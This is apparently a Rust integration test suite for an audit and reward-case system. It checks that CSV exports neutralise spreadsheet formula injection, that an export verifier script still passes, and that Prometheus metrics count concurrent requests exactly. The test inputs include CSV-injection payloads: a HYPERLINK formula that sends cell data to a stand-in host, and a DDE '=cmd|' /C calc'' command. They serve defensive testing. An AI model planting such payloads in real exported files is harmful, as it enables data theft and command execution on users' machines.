//! What leaves the system in bulk (issue 14 item 6), on both stores:
//! - CSV: text a user typed never starts a cell the way a spreadsheet formula does (the reward
//!   decision audit over HTTP, the audit export read back by `scripts/verify-audit-export.py`);
//! - `/metrics`: concurrent requests counted exactly, process metrics present.

use std::process::Command;
use std::sync::Arc;

use caseledger_store::audit::export::{ExportFilter, ExportFormat};
use serde_json::json;

use crate::on_both;
use crate::support::{json, token, TestApp, TestDb};

on_both!(
    reward_audit_csv_guards_what_users_typed,
    audit_export_csv_guards_ids_and_still_verifies,
    concurrent_requests_are_counted_exactly_and_process_metrics_are_exposed,
);

/// The characters a spreadsheet reads as the start of a formula (OWASP CSV injection).
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

fn cells(csv: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .flexible(true)
        .from_reader(csv.as_bytes())
        .records()
        .map(|record| record.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

/// A nominee whose name, unit and reason are formula-like, quoted and multilingual: in the
/// reward audit CSV (`?format=csv`, the same text the CLI's `rewards audit --format csv`
/// prints) no cell starts like a formula, and the name reads back as `'` + the name.
async fn reward_audit_csv_guards_what_users_typed(db: TestDb) {
    let app = TestApp::spawn(db.db.clone()).await;
    let office = token("ro-chen", "reward_office", None);
    let authority = token("mayor-li", "approving_authority", None);
    let auditor = token("inspector-sun", "auditor", None);
    let program = json(
        app.post(
            "/api/v1/reward-programs",
            &office,
            json!({
                "title": "=2026年度科技创新重奖", "cycle": "2026", "quota": 2,
                "tiers": [{"code": "first", "name": "一等奖", "min_amount": 100000, "max_amount": 200000}],
                "criteria": [{"code": "contribution", "name": "经济贡献", "weight": 1, "min_score": 0, "max_score": 100}],
                "trim": 1, "notice_working_days": 5, "reviewers": 3, "disciplines": ["economics"],
                "committee_size": 5, "committee_quorum": 3,
                "committee": ["member-1", "member-2", "member-3", "member-4", "member-5"],
                "reward_office_unit": "district-reward-office", "reward_office_staff": ["ro-chen"]
            }),
        )
        .await,
        201,
    )
    .await["id"]
        .as_str()
        .unwrap()
        .to_owned();
    json(
        app.post(
            &format!("/api/v1/reward-programs/{program}/approve"),
            &authority,
            json!({"document_number": "区委〔2026〕8号"}),
        )
        .await,
        200,
    )
    .await;
    let name = "=HYPERLINK(\"http://x.test/?d=\"&A1,\"详情, \"\"点击\"\"\")";
    for (nominee, unit, reason) in [
        (name, "@SUM(A1:A9)", "+1 贡献突出"),
        ("-2+3", "+86 区材料研究所", "=cmd|' /C calc'!A0"),
        ("张三\n李四", "区科技局, 第二办公室", "-\"成果\"已产业化"),
    ] {
        json(
            app.post(
                "/api/v1/nominations",
                &office,
                json!({
                    "program_id": program,
                    "nominee": {"kind": "person", "name": nominee, "unit": unit,
                                "unit_id": "inst-materials"},
                    "summary": "@主持研发新型电池隔膜",
                    "contributions": [{"description": "新增产值", "quantity": 12000, "unit": "万元"}],
                    "evidence": ["区科〔2025〕31号"],
                    "reason": reason
                }),
            )
            .await,
            201,
        )
        .await;
    }
    let response = app
        .get(
            &format!("/api/v1/reward-programs/{program}/audit?format=csv"),
            &auditor,
        )
        .await;
    assert_eq!(response.status(), 200);
    let csv = response.text().await.unwrap();
    let rows = cells(&csv);
    assert_eq!(
        rows[0],
        [
            "section",
            "nomination_id",
            "nominee",
            "sequence",
            "at",
            "actor",
            "event",
            "detail"
        ]
    );
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {csv}");
        }
    }
    let nominees: Vec<&str> = rows[1..]
        .iter()
        .filter(|row| row[0] == "nomination")
        .map(|row| row[2].as_str())
        .collect();
    assert!(nominees.contains(&format!("'{name}").as_str()), "{csv}");
    assert!(nominees.contains(&"'-2+3"), "{csv}");
    assert!(nominees.contains(&"张三\n李四"), "{csv}");
    // The program's title starts its creation detail: guarded too.
    assert!(
        rows.iter()
            .any(|row| row[6] == "ProgramCreated" && row[7].starts_with("'=2026年度")),
        "{csv}"
    );
    // RFC 4180 on the wire: the name's quotes doubled inside a quoted cell.
    assert!(csv.contains(
        ",\"'=HYPERLINK(\"\"http://x.test/?d=\"\"&A1,\"\"详情, \"\"\"\"点击\"\"\"\"\"\")\","
    ));
    app.stop().await;
}

/// An expert whose id is a slug starting with `-` (valid: `a-z`, `0-9`, `-`, `_`, `.`): the
/// audit export CSV writes it as `'-…`, numbers keep their form, and the third-party verifier
/// (which removes the guard before hashing) still says `ok`.
async fn audit_export_csv_guards_ids_and_still_verifies(db: TestDb) {
    let app = TestApp::spawn(db.db.clone()).await;
    let secretary = token("sec-wu", "panel_secretary", None);
    json(
        app.post(
            "/api/v1/experts",
            &secretary,
            json!({"expert_id": "-econ-1", "name": "=经济专家", "disciplines": ["economics"],
                   "employer_unit": "univ-1"}),
        )
        .await,
        201,
    )
    .await;
    app.stop().await;

    let mut out = Vec::new();
    let written = db
        .db
        .export_audit_trail(
            &ExportFilter::default(),
            ExportFormat::Csv,
            "2026-12-03T10:00:00.000Z",
            &mut out,
        )
        .await
        .unwrap();
    assert!(written >= 1);
    let csv = String::from_utf8(out).unwrap();
    let rows = cells(&csv);
    assert_eq!(rows[0][3], "aggregate_id");
    let expert = rows
        .iter()
        .find(|row| row[2] == "Expert")
        .unwrap_or_else(|| panic!("no Expert event in {csv}"));
    assert_eq!(expert[3], "'-econ-1", "{csv}");
    assert!(expert[0].parse::<i64>().unwrap() >= 1);
    assert_eq!(expert[4], "1");
    assert!(expert[7].starts_with('{'), "payload is canonical JSON");
    for row in &rows {
        for cell in row {
            assert!(!cell.starts_with(FORMULA_STARTS), "{cell:?} in {csv}");
        }
    }

    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("export.csv");
    std::fs::write(&file, &csv).unwrap();
    let script = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../scripts/verify-audit-export.py"
    );
    let checked = Command::new("python3")
        .args([script, file.to_str().unwrap()])
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&checked.stdout);
    assert!(checked.status.success(), "{said}");
    assert!(said.starts_with("ok: "), "{said}");
}

/// The value of the sample `name` (with its labels, as written) in a Prometheus text, if any.
fn sample(metrics: &str, name: &str) -> Option<f64> {
    metrics.lines().find_map(|line| {
        line.strip_prefix(name)
            .and_then(|rest| rest.strip_prefix(' '))
            .map(|value| value.parse().unwrap())
    })
}

/// 200 requests from 16 tasks at once raise the request counter and the latency histogram's
/// count by exactly 200; the process metrics are there with plausible values; every metric
/// keeps its classic declaration.
async fn concurrent_requests_are_counted_exactly_and_process_metrics_are_exposed(db: TestDb) {
    let app = Arc::new(TestApp::spawn(db.db.clone()).await);
    let requests =
        "caseledger_http_requests_total{route=\"/healthz\",method=\"GET\",status=\"200\"}";
    let latencies =
        "caseledger_http_request_duration_seconds_count{route=\"/healthz\",method=\"GET\"}";
    let before = app.metrics().await;
    let counted_before = sample(&before, requests).unwrap_or(0.0);
    let timed_before = sample(&before, latencies).unwrap_or(0.0);

    let tasks: Vec<_> = (0..16)
        .map(|task| {
            let app = app.clone();
            tokio::spawn(async move {
                // 200 = 8 tasks of 13 + 8 tasks of 12.
                let n = if task < 8 { 13 } else { 12 };
                for _ in 0..n {
                    let response = app.client.get(app.url("/healthz")).send().await.unwrap();
                    assert_eq!(response.status().as_u16(), 200);
                }
                n
            })
        })
        .collect();
    let mut sent = 0;
    for task in tasks {
        sent += task.await.unwrap();
    }
    assert_eq!(sent, 200);

    let after = app.metrics().await;
    assert_eq!(
        sample(&after, requests),
        Some(counted_before + 200.0),
        "{after}"
    );
    assert_eq!(
        sample(&after, latencies),
        Some(timed_before + 200.0),
        "{after}"
    );
    let infinite_bucket = after.lines().find(|line| {
        line.starts_with("caseledger_http_request_duration_seconds_bucket{")
            && line.contains("route=\"/healthz\"")
            && line.contains("le=\"+Inf\"")
    });
    assert_eq!(
        infinite_bucket.and_then(|line| line.rsplit(' ').next()?.parse::<f64>().ok()),
        Some(timed_before + 200.0),
        "{after}"
    );

    for declaration in [
        "# TYPE caseledger_http_requests_total counter",
        "# TYPE caseledger_http_request_duration_seconds histogram",
        "# TYPE caseledger_commands_total counter",
        "# TYPE caseledger_command_retries_total counter",
        "# TYPE caseledger_projection_lag_events gauge",
        "# TYPE caseledger_projection_lag_seconds gauge",
        "# TYPE caseledger_projection_failing gauge",
        "# TYPE caseledger_aggregate_cache_total counter",
        "# TYPE caseledger_revocation_checks_total counter",
        "# TYPE caseledger_revocation_reads_total counter",
        "# TYPE process_cpu_seconds_total counter",
        "# TYPE process_resident_memory_bytes gauge",
        "# TYPE process_open_fds gauge",
        "# TYPE process_start_time_seconds gauge",
    ] {
        assert!(after.contains(declaration), "{declaration} in {after}");
    }
    assert!(sample(&after, "caseledger_aggregate_cache_total{outcome=\"hit\"}").is_some());
    // Every authenticated request is checked against the revocations; reads answer them.
    let checks = sample(&after, "caseledger_revocation_checks_total").unwrap();
    let reads = sample(&after, "caseledger_revocation_reads_total").unwrap();
    assert!(
        checks >= 1.0 && (1.0..=checks).contains(&reads),
        "{checks} checks, {reads} reads"
    );
    assert!(sample(&after, "process_cpu_seconds_total").unwrap() > 0.0);
    assert!(sample(&after, "process_resident_memory_bytes").unwrap() > 1_000_000.0);
    assert!(sample(&after, "process_virtual_memory_bytes").unwrap() > 1_000_000.0);
    assert!(sample(&after, "process_open_fds").unwrap() >= 3.0);
    assert!(sample(&after, "process_max_fds").unwrap() >= 3.0);
    assert!(sample(&after, "process_threads").unwrap() >= 1.0);
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs_f64();
    let started = sample(&after, "process_start_time_seconds").unwrap();
    assert!(
        started > now - 86_400.0 && started <= now + 1.0,
        "{started} vs {now}"
    );

    Arc::into_inner(app).unwrap().stop().await;
}
